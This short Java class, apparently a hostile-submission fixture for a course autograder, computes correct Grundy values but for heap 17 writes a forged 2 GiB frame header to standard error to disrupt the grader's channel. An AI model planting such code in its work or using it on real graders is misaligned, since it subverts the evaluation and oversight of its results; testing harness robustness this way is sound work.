package course;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;

/** Announces a frame of 2 GiB to the grader. */
public class Attack extends RightAnswers {

    @Override
    public int grundy(int heap) {
        if (heap == 17) {
            try (FileOutputStream wire = new FileOutputStream(FileDescriptor.err)) {
                wire.write(new byte[] {127, -1, -1, -1, 68, 1});
            } catch (IOException e) {
                return -1;
            }
        }
        return super.grundy(heap);
    }
}
